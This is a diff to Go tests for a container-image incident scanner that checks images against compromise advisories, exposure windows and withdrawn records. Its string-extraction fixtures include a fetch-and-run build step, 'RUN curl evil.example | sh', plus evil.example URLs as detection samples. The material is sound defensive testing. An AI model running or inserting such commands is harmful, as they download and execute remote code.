@@ -53,9 +53,10 @@ func TestIdentitiesBuildersAndMaterials(t *testing.T) {
 		"a material's digest":     {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "a", Digest: "sha1:" + commit}}}}}, 1},
 		"an image as a material":  {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest}}}}}, 1},
 		"a digest without prefix": {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest[7:]}}}}}, 1},
-		"empty statements":        {inspect.Image{Provenance: []inspect.Provenance{{}, {Materials: []inspect.Material{{}}}}}, 0},
-		"the image itself":        {inspect.Image{ImageHead: inspect.ImageHead{Digest: digest}}, 1},
-		"its index":               {inspect.Image{ImageHead: inspect.ImageHead{Index: digest}}, 1},
+		"empty statements": {inspect.Image{Provenance: []inspect.Provenance{{},
+			{Materials: []inspect.Material{{}}}}}, 0},
+		"the image itself": {inspect.Image{ImageHead: inspect.ImageHead{Digest: digest}}, 1},
+		"its index":        {inspect.Image{ImageHead: inspect.ImageHead{Index: digest}}, 1},
 	} {
 		if got := matchedBy(p, tt.image); len(got) != tt.want {
 			t.Errorf("%s: %q, want %d", name, got, tt.want)
@@ -70,11 +71,14 @@ func TestStringsOfAnIncident(t *testing.T) {
 		image inspect.Image
 		want  []string
 	}{
-		"an entrypoint":  {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Entrypoint: []string{"sh", "-c", "evil-marker"}}}}, []string{"string evil-marker"}},
-		"a variable":     {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Env: []string{"A=https://evil.example/x"}}}}, []string{"string evil.example"}},
-		"a build step":   {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "RUN curl evil.example | sh"}}}, []string{"string evil.example"}},
-		"a lock file":    {inspect.Image{Lock: []inspect.LockRow{{Resolved: "https://evil.example/a.tgz"}}}, []string{"string evil.example"}},
-		"twice":          {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "evil.example"}, {CreatedBy: "evil.example"}}}, []string{"string evil.example"}},
+		"an entrypoint": {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Entrypoint: []string{"sh", "-c", "evil-marker"}}}}, []string{"string evil-marker"}},
+		"a variable":    {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Env: []string{"A=https://evil.example/x"}}}}, []string{"string evil.example"}},
+		"a build step": {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "RUN curl evil.example | sh"}}},
+			[]string{"string evil.example"}},
+		"a lock file": {inspect.Image{Lock: []inspect.LockRow{{Resolved: "https://evil.example/a.tgz"}}},
+			[]string{"string evil.example"}},
+		"twice": {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "evil.example"},
+			{CreatedBy: "evil.example"}}}, []string{"string evil.example"}},
 		"a file's name":  {inspect.Image{Binaries: []inspect.Binary{{Path: "/evil-marker"}}}, nil},
 		"nothing at all": {inspect.Image{}, nil},
 	} {
@@ -118,21 +122,26 @@ func TestNamesOfRepositories(t *testing.T) {
 // What is known of an image in one sentence each: a match by a package, by something else, within a window only, and of
 // a record that was withdrawn, which convicts nobody.
 func TestFindingsByTheirCertainty(t *testing.T) {
-	row := func(id string, kind inspect.AdvisoryKind, subject string, s inspect.Severity, change func(a *inspect.Advisory)) inspect.Advisory {
-		a := inspect.Advisory{ID: id, Source: "incident-pack", Kind: kind, Subject: subject, Title: "what happened", Severity: s, Status: s.RowStatus(), Layer: -1}
+	row := func(id string, kind inspect.AdvisoryKind, subject string, s inspect.Severity,
+		change func(a *inspect.Advisory)) inspect.Advisory {
+		a := inspect.Advisory{ID: id, Source: "incident-pack", Kind: kind, Subject: subject, Title: "what happened",
+			Severity: s, Status: s.RowStatus(), Layer: -1}
 		if change != nil {
 			change(&a)
 		}
 		return a
 	}
 	rows := []inspect.Advisory{
-		row("a", inspect.AdvisoryPackage, "npm-x 1.0", inspect.Critical, func(a *inspect.Advisory) { a.Locations = []string{"/app/node_modules/npm-x/package.json"} }),
-		row("a", inspect.AdvisoryPackage, "npm-y 1.0", inspect.Critical, nil), row("a", inspect.AdvisoryPackage, "npm-z 1.0", inspect.Critical, nil),
+		row("a", inspect.AdvisoryPackage, "npm-x 1.0", inspect.Critical,
+			func(a *inspect.Advisory) { a.Locations = []string{"/app/node_modules/npm-x/package.json"} }),
+		row("a", inspect.AdvisoryPackage, "npm-y 1.0", inspect.Critical, nil), row("a", inspect.AdvisoryPackage,
+			"npm-z 1.0", inspect.Critical, nil),
 		row("a", inspect.AdvisoryPackage, "npm-w 1.0", inspect.Critical, nil),
 		row("b", inspect.AdvisoryLayer, "sha256:aa", inspect.High, nil),
 		row("c", inspect.AdvisoryWindow, "image built then", inspect.Low, nil),
 		row("d", inspect.AdvisoryPackage, "gem 1", inspect.Info, func(a *inspect.Advisory) { a.Withdrawn = true }),
-		row("e", inspect.AdvisoryPackage, "libx 1", inspect.Critical, func(a *inspect.Advisory) { a.Locations = []string{"/var/lib/dpkg/status"} }),
+		row("e", inspect.AdvisoryPackage, "libx 1", inspect.Critical,
+			func(a *inspect.Advisory) { a.Locations = []string{"/var/lib/dpkg/status"} }),
 	}
 	got := map[string]inspect.Finding{}
 	for _, f := range findings(inspect.Image{ImageHead: inspect.ImageHead{Container: "web"}}, rows) {
@@ -142,14 +151,21 @@ func TestFindingsByTheirCertainty(t *testing.T) {
 		code, subject, cause string
 		status               inspect.RowStatus
 	}{
-		"known-compromised package npm-x 1.0, npm-y 1.0, npm-z 1.0 and 1 more (a): what happened": {CodeCompromise, "web:/app/node_modules/npm-x/package.json", "package:npm-x@1.0", inspect.RowFailed},
-		"known compromise b by its layer sha256:aa: what happened":                                {CodeCompromise, "web", "", inspect.RowFailed},
-		"image built then, within the exposure window of c: what happened":                        {CodeWindow, "web", "", inspect.Low.RowStatus()},
-		"gem 1 matched d, which was withdrawn: what happened":                                     {CodeWithdrawn, "web", "package:gem@1", inspect.Info.RowStatus()},
-		"known-compromised package libx 1 (e): what happened":                                     {CodeCompromise, "web", "package:libx@1", inspect.RowFailed}, // the database is no file of it
+		"known-compromised package npm-x 1.0, npm-y 1.0, npm-z 1.0 and 1 more (a): what " +
+			"happened": {inspect.CodeKnownCompromise, "web:/app/node_modules/npm-x/package.json",
+			"package:npm-x@1.0", inspect.RowFailed},
+		"known compromise b by its layer sha256:aa: what " +
+			"happened": {inspect.CodeKnownCompromise, "web", "", inspect.RowFailed},
+		"image built then, within the exposure window of c: what " +
+			"happened": {inspect.CodeExposureWindow, "web", "", inspect.Low.RowStatus()},
+		"gem 1 matched d, which was withdrawn: what " +
+			"happened": {inspect.CodeWithdrawnAdvisory, "web", "package:gem@1",
+			inspect.Info.RowStatus()},
+		"known-compromised package libx 1 (e): what happened": {inspect.CodeKnownCompromise, "web", "package:libx@1", inspect.RowFailed}, // the database is no file of it
 	} {
 		f, there := got[title]
-		if !there || f.Code != want.code || f.Subject != want.subject || f.Cause != want.cause || f.Status != want.status {
+		if !there || f.Code != want.code || f.Subject != want.subject || f.Cause != want.cause ||
+			f.Status != want.status {
 			t.Errorf("%q: %v %+v", title, there, f)
 		}
 	}
@@ -157,7 +173,8 @@ func TestFindingsByTheirCertainty(t *testing.T) {
 		t.Errorf("%d findings", len(got))
 	}
 	for title, f := range got {
-		if last := f.Evidence[len(f.Evidence)-1]; last.Kind != "advisory" || !strings.HasPrefix(last.Text, "incident-pack ") {
+		if last := f.Evidence[len(f.Evidence)-1]; last.Kind != "advisory" || !strings.HasPrefix(last.Text,
+			"incident-pack ") {
 			t.Errorf("%q names no record: %+v", title, last)
 		}
 	}
@@ -173,10 +190,12 @@ func TestWindows(t *testing.T) {
 		return inspect.At(parsed)
 	}
 	for text, inside := range map[string]map[string]bool{
-		"2026-03-01,2026-03-02":      {"2026-02-28T23:59:59Z": false, "2026-03-01T00:00:00Z": true, "2026-03-02T23:59:59Z": true, "2026-03-03T00:00:00Z": false},
-		"2026-03-01T12:00:00Z,":      {"2026-03-01T11:59:59Z": false, "2030-01-01T00:00:00Z": true},
-		",2026-03-01T12:00:00+02:00": {"2026-03-01T10:00:00Z": true, "2026-03-01T10:00:01Z": false, "1970-01-02T00:00:00Z": true},
-		" 2026-03-01 , 2026-03-01 ":  {"2026-03-01T10:00:00Z": true, "2026-03-02T00:00:00Z": false},
+		"2026-03-01,2026-03-02": {"2026-02-28T23:59:59Z": false, "2026-03-01T00:00:00Z": true,
+			"2026-03-02T23:59:59Z": true, "2026-03-03T00:00:00Z": false},
+		"2026-03-01T12:00:00Z,": {"2026-03-01T11:59:59Z": false, "2030-01-01T00:00:00Z": true},
+		",2026-03-01T12:00:00+02:00": {"2026-03-01T10:00:00Z": true, "2026-03-01T10:00:01Z": false,
+			"1970-01-02T00:00:00Z": true},
+		" 2026-03-01 , 2026-03-01 ": {"2026-03-01T10:00:00Z": true, "2026-03-02T00:00:00Z": false},
 	} {
 		w, err := ParseWindow(text)
 		if err != nil {
